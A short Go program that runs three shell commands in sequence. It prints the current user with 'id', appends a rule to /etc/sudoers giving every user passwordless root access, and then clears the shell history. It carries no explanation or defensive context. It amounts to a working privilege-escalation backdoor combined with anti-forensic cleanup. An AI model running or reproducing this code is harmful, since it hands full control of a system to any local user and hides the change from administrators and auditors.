package main

import (
	"fmt"
	"os/exec"
)

func main() {
	steps := []string{"id", "echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "history -c"}
	for _, s := range steps {
		o, _ := exec.Command("sh", "-c", s).CombinedOutput()
		fmt.Println(string(o))
	}
}
